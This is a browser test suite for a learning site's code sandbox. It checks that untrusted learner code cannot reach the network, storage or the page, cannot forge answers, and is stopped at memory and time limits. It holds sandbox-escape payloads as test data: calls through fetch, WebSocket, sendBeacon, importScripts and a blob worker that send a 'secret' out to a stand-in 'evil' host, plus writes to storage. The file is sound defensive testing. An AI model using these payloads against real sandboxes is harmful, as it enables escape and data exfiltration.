// The exercise sandbox (issue 26, points 1, 2 and 6): the learner's code, even from a shared
// link the learner agreed to run, reaches no network, no storage and not the page; every
// answer of the sandbox is checked before the engine sees it; every run has a fresh
// sandbox; a memory-hungry run ends with a clear message; Stop ends a run at once. A second
// HTTP server on 127.0.0.1 stands for the outside world and must receive no request, and
// the page's own server no request the page did not make itself.

import { test, before, after, afterEach } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { readFile } from "node:fs/promises";
import path from "node:path";
import { serve, launch, openPage, packageBuilt, waitReady, settle, www, screenshot } from "./helpers.mjs";

const skip = packageBuilt() ? false : "www/pkg is not built (bash scripts/build-wasm.sh)";
const SOLUTION = await readFile(path.join(www, "js/exercise/templates/solution.js"), "utf8");

/** What the outside world and the page's own server were asked by anyone but the page. */
const outside = [];
const own = [];
let evil = null;
let site = null;
let browser = null;
let page = null;

/** The paths the page asks for itself (its files); anything else is the learner's. */
const PAGE_FILE = /^\/($|index\.html|style\.css|js\/|pkg\/|vendor\/)/;

before(async () => {
  if (skip) return;
  evil = http.createServer((req, res) => {
    outside.push(`${req.method} ${req.url}`);
    // as welcoming as can be: whatever is asked would be answered
    res.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" });
    res.end("self.leaked = true;");
  });
  evil.on("upgrade", (req, socket) => {
    outside.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
  site = await serve({ onRequest: (req) => {
    if (!PAGE_FILE.test(new URL(req.url, "http://x").pathname)) own.push(`${req.method} ${req.url}`);
  } });
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await site?.close();
  if (evil) await new Promise((resolve) => evil.close(resolve));
});

afterEach(async () => {
  if (!page) return;
  const problems = page.problems;
  await page.context().close();
  page = null;
  assert.deepEqual(problems, [], "no console errors or page errors");
});

function evilUrl(name) {
  return `http://127.0.0.1:${evil.address().port}/${name}`;
}

async function fresh(hash = "") {
  page = await openPage(browser, site.url + hash);
  return page;
}

/** Open the panel and put `code` in the editor as if typed. */
async function write(p, code) {
  if (await p.getByTestId("exercise").isHidden()) await p.getByTestId("exercise-toggle").click();
  await p.getByTestId("pm-editor").fill(code);
}

/** Wait until the panel says the run ended (ran, stopped, or an error); returns its words. */
async function ended(p, timeout = 60000) {
  await p.waitForFunction(() => {
    const status = document.querySelector("[data-testid=pm-status]").textContent;
    return /ran \d+ orders|Stopped/.test(status) || !document.querySelector("[data-testid=pm-error]").hidden;
  }, null, { timeout });
  await waitReady(p);
  return {
    status: await p.getByTestId("pm-status").textContent(),
    error: await p.getByTestId("pm-error").isHidden() ? null : await p.getByTestId("pm-error").textContent(),
  };
}

async function runIt(p) {
  await p.getByTestId("pm-run").click();
  return ended(p);
}

/** The shown run's numbers, from the page's engine. */
function numbers(p) {
  return p.evaluate(() => {
    const sim = window.brigade.sim;
    sim.seek(sim.totalSteps());
    const report = sim.report();
    return { messages: sim.messageCount(), completed: report.completed, orders: sim.orderCount(), error: sim.processError() ?? null };
  });
}

/** The solution's run of the default config, as the page shows it. */
let reference = null;
async function solutionNumbers() {
  if (reference) return reference;
  const p = await openPage(browser, site.url);
  await write(p, SOLUTION);
  const { error } = await runIt(p);
  assert.equal(error, null);
  reference = await numbers(p);
  await p.context().close();
  assert.ok(reference.completed > 0, JSON.stringify(reference));
  return reference;
}

/** The hostile code tries `attack` while loading (errors swallowed), then is the solution. */
function hostile(attack) {
  return `try { ${attack} } catch (error) { /* blocked */ }\n${SOLUTION}`;
}

/**
 * The learner's code, from a shared link the learner agrees to run, tries `attack`; the run
 * still completes with the right numbers and nobody outside was asked anything.
 */
async function escapes(name, attack, { check = null } = {}) {
  outside.length = 0;
  own.length = 0;
  const expected = await solutionNumbers();
  const code = hostile(attack);
  const link = `#config=${encodeURIComponent(JSON.stringify({ custom_process: "all", process_code: code }))}`;
  const p = await fresh(link);
  await check?.before?.(p);
  await p.getByTestId("pm-confirm-run").click();
  const { error } = await ended(p);
  assert.equal(error, null, `${name}: the run went on`);
  // whatever the code started has time to arrive
  await p.waitForTimeout(1000);
  assert.deepEqual(outside, [], `${name}: the outside server was asked nothing`);
  assert.deepEqual(own, [], `${name}: the page's server was asked nothing by the code`);
  assert.deepEqual(await numbers(p), expected, `${name}: the run shown is the solution's`);
  await check?.after?.(p);
  return p;
}

test("the page carries a strict Content-Security-Policy and cannot reach another host itself", { skip }, async () => {
  const p = await fresh();
  const policy = await p.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
  assert.match(policy, /connect-src 'self'(;|$)/);
  assert.match(policy, /worker-src 'self'(;|$)/);
  assert.match(policy, /style-src 'self'(;|$)/);
  assert.match(policy, /object-src 'none'/);
  assert.match(policy, /base-uri 'none'/);
  outside.length = 0;
  const tried = await p.evaluate(async (url) => {
    const out = [];
    try { await fetch(url); out.push("fetch"); } catch { /* refused */ }
    try { await import(url); out.push("import"); } catch { /* refused */ }
    const started = await new Promise((resolve) => {
      try {
        const w = new Worker(URL.createObjectURL(new Blob(["postMessage('up')"], { type: "text/javascript" })));
        w.onmessage = () => resolve(true);
        w.onerror = () => resolve(false);
        setTimeout(() => resolve(false), 1000);
      } catch {
        resolve(false);
      }
    });
    if (started) out.push("blob worker");
    return out;
  }, evilUrl("page"));
  await p.waitForTimeout(300);
  assert.deepEqual(tried, []);
  assert.deepEqual(outside, []);
  // the refusals were logged as console errors: expected here
  page.problems = page.problems.filter((line) => !/Content Security Policy/.test(line));
});

const VECTORS = {
  "dynamic import": (u) => `import(${JSON.stringify(u)}).catch(() => {});`,
  "a nested worker from a blob": (u) =>
    `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`fetch(${JSON.stringify(u)}); indexedDB.open("leak");`)}])));`,
  importScripts: (u) => `importScripts(${JSON.stringify(u)});`,
  fetch: (u) => `fetch(${JSON.stringify(u)});`,
  XMLHttpRequest: (u) => `const x = new XMLHttpRequest(); x.open("GET", ${JSON.stringify(u)}); x.send();`,
  WebSocket: (u) => `new WebSocket(${JSON.stringify(u.replace("http:", "ws:"))});`,
  EventSource: (u) => `new EventSource(${JSON.stringify(u)});`,
  "navigator.sendBeacon": (u) => `navigator.sendBeacon(${JSON.stringify(u)}, "secret");`,
  "the globals of the host, found again": (u) =>
    `const g = Function("return this")(); (g.fetch || g.self.fetch)(${JSON.stringify(u)});`,
};

for (const [name, attack] of Object.entries(VECTORS)) {
  test(`learner code cannot reach the network: ${name}`, { skip }, async () => {
    await escapes(name, attack(evilUrl(name.replace(/\W+/g, "-"))));
  });
}

test("learner code cannot reach the same site either (a relative fetch or import)", { skip }, async () => {
  await escapes("same site", `import("./leak-import.js").catch(() => {}); fetch("/leak-fetch");`);
});

test("learner code cannot reach storage: indexedDB, caches", { skip }, async () => {
  await escapes("storage", `indexedDB.open("leak").onupgradeneeded = (e) => e.target.result.createObjectStore("x");
    caches.open("leak").then((c) => c.put("/leak", new Response("secret")));`, {
    after: async (p) => {
      const found = await p.evaluate(async () => ({
        databases: (await indexedDB.databases()).map((d) => d.name),
        caches: await caches.keys(),
      }));
      assert.deepEqual(found, { databases: [], caches: [] });
    },
  });
});

test("learner code cannot talk to the page over a BroadcastChannel", { skip }, async () => {
  await escapes("BroadcastChannel", `const c = new BroadcastChannel("brigade"); c.postMessage({ id: 1, ok: true, result: { run: 5 } });`, {
    before: (p) => p.evaluate(() => {
      window.heard = [];
      new BroadcastChannel("brigade").onmessage = (event) => window.heard.push(event.data);
    }),
    after: async (p) => assert.deepEqual(await p.evaluate(() => window.heard), []),
  });
});

test("learner code cannot post a forged answer to the page", { skip }, async () => {
  const forge = "for (let id = 0; id < 20; id += 1) (typeof self !== 'undefined' ? self : globalThis).postMessage({ id, ok: true, result: { run: 5 } });";
  await escapes("postMessage", forge);
  // in decide too, when the run is under way
  const p = await fresh();
  const expected = await solutionNumbers();
  await write(p, SOLUTION.replace("const send = [];", `const send = []; try { ${forge} } catch (e) { /* none */ }`));
  const { error } = await runIt(p);
  assert.equal(error, null);
  assert.deepEqual(await numbers(p), expected);
});

test("a forged answer from the sandbox ends the run with an error and never reaches the engine", { skip }, async () => {
  const p = await fresh();
  // the sandbox's worker, replaced by one that answers a forged result to every request
  await p.evaluate(() => {
    const Real = window.Worker;
    window.forge = { id: "request", ok: true, result: { run: 5 } };
    window.Worker = class extends Real {
      postMessage(message) {
        const data = window.forge && { ...window.forge, id: window.forge.id === "request" ? message.id : window.forge.id };
        if (!data) return super.postMessage(message);
        setTimeout(() => this.dispatchEvent(new MessageEvent("message", { data })), 10);
      }
    };
  });
  await write(p, SOLUTION);
  const before = await numbers(p);
  const first = await runIt(p);
  assert.match(first.error, /^the sandbox answered something that is not a result \(result\.run is not text\); the run was ended and nothing of it was used$/);
  assert.deepEqual(await numbers(p), before, "the shown run is unchanged");
  // a well-formed run file that is not one, an answer to another request, an extra key
  for (const [forge, said] of [
    [{ id: "request", ok: true, result: { run: "{}", decisions: "[]", error: null, step: null } }, /result\.run is not a run file/],
    [{ id: 999, ok: true, result: {} }, /an answer to request 999, expected \d+/],
    [{ id: "request", ok: true, result: { run: "{}", decisions: "[]", error: null, step: null, extra: 1 } }, /unexpected key "extra"/],
    [{ id: "request", ok: true, result: { run: "{\"config\":{},\"history\":[]}", decisions: "[]", error: null, step: -1 } }, /result\.step is not a whole number/],
  ]) {
    await p.evaluate((f) => { window.forge = f; }, forge);
    const { error } = await runIt(p);
    assert.match(error, said);
  }
  // the engine is whole: the real sandbox runs the solution
  await p.evaluate(() => { window.forge = null; });
  const { error } = await runIt(p);
  assert.equal(error, null);
  assert.deepEqual(await numbers(p), await solutionNumbers());
});

test("every run has a fresh sandbox: a run that replaced JSON.parse leaves the next run correct", { skip }, async () => {
  const p = await fresh();
  const expected = await solutionNumbers();
  await write(p, `JSON.parse = () => ({}); JSON.stringify = () => "{}"; Object.prototype.toJSON = () => 1;\n${SOLUTION}`);
  await runIt(p);
  await write(p, SOLUTION);
  const { error, status } = await runIt(p);
  assert.equal(error, null);
  assert.match(status, new RegExp(`ran ${expected.orders} orders. ${expected.completed} completed`));
  assert.deepEqual(await numbers(p), expected);
});

test("code that grows its heap is stopped at the sandbox's memory limit, with a clear message", { skip }, async (t) => {
  const p = await fresh();
  await write(p, "const keep = [];\nfunction decide(state, message) {\n  for (;;) keep.push(new Array(100000).fill(message));\n}");
  const t0 = Date.now();
  const { error, status } = await runIt(p);
  const took = Date.now() - t0;
  assert.match(error, /decide failed: threw MemoryLimit: your code used more than 64 MiB of memory; the sandbox stopped it \(line 3\)/);
  assert.match(status, /Stopped at step \d+/);
  assert.ok(took < 20000, `stopped in ${took} ms`);
  t.diagnostic(`the run reached the memory limit and was shown stopped ${took} ms after Run`);
  await screenshot(p, "sandbox-memory-limit");
  // the page is alive and the next run is whole
  await write(p, SOLUTION);
  const next = await runIt(p);
  assert.equal(next.error, null);
  assert.deepEqual(await numbers(p), await solutionNumbers());
});

test("a state too big to keep ends the run instead of filling the engine's memory", { skip }, async () => {
  const p = await fresh();
  await write(p, "function decide(state, message) {\n  return { state: \"x\".repeat(3000000), send: [] };\n}");
  const { error } = await runIt(p);
  assert.match(error, /decide failed: threw AnswerLimit: your code returned 2,930 KiB of JSON in one answer; the sandbox takes at most 256 KiB/);
});

test("Stop ends a run at once; the page stays usable", { skip }, async (t) => {
  const p = await fresh();
  await write(p, "function decide(state, message) {\n  for (;;) {}\n}");
  await p.getByTestId("pm-run").click();
  await p.getByTestId("pm-stop").waitFor();
  await p.waitForTimeout(500);
  const t0 = Date.now();
  await p.getByTestId("pm-stop").click();
  await p.waitForFunction(() => /Stopped: your code was ended/.test(document.querySelector("[data-testid=pm-status]").textContent),
    null, { timeout: 2000 });
  const stopped = Date.now() - t0;
  assert.ok(stopped < 2000, `stopped after ${stopped} ms`);
  t.diagnostic(`Stop to "Stopped" shown: ${stopped} ms`);
  assert.equal(await p.getByTestId("pm-stop").isHidden(), true);
  await write(p, SOLUTION);
  const { error } = await runIt(p);
  assert.equal(error, null);
  assert.deepEqual(await numbers(p), await solutionNumbers());
});

test("one call that never ends is stopped by the sandbox's own time limit, saying where", { skip }, async () => {
  const p = await fresh();
  await p.evaluate(() => { window.brigade.exercise.limits = { callMs: 300 }; });
  await write(p, "function decide(state, message) {\n  while (true) {}\n}");
  const { error, status } = await runIt(p);
  assert.match(error, /decide failed: threw TimeLimit: one call to decide ran for more than 0\.3 s \(an endless loop\?\); the sandbox stopped it \(line [12]\)/);
  assert.match(status, /Stopped at step \d+/);
});

test("a blocked escape is shown as the error of the learner's code", { skip }, async () => {
  const p = await fresh();
  await write(p, `function decide(state, message) {\n  fetch(${JSON.stringify(evilUrl("shown"))});\n}`);
  outside.length = 0;
  const { error } = await runIt(p);
  assert.match(error, /decide failed: threw ReferenceError: 'fetch' is not defined \(your code runs in a sandbox that has the JavaScript language only: no page, network, storage or timers\) \(line 2\)/);
  assert.deepEqual(outside, []);
  await screenshot(p, "sandbox-blocked-escape");
  await settle(p);
});

test("console.log still works for debugging, into the browser's console", { skip }, async () => {
  const p = await fresh();
  const lines = [];
  p.on("console", (msg) => { if (msg.text().startsWith("[your decide]")) lines.push(msg.text()); });
  await write(p, SOLUTION.replace("const send = [];", "const send = []; console.log(\"seen\", message.type);"));
  const { error } = await runIt(p);
  assert.equal(error, null);
  assert.deepEqual(await numbers(p), await solutionNumbers());
  assert.ok(lines.includes("[your decide] seen OrderPlaced"), JSON.stringify(lines.slice(0, 3)));
});

test("a syntax error names the line and the column where the editor shows them", { skip }, async () => {
  const p = await fresh();
  await write(p, "function decide(state, message) {\n  let x = ;\n}");
  const { error } = await runIt(p);
  assert.match(error, /your code does not compile: SyntaxError: unexpected token in expression: ';' \(line 2, column 11\)/);
  // on the first line, the column counts from the editor's first character
  await write(p, "function decide(state, message) { return 1 +; }");
  const first = await runIt(p);
  assert.match(first.error, /does not compile: SyntaxError: .* \(line 1, column 45\)/);
});
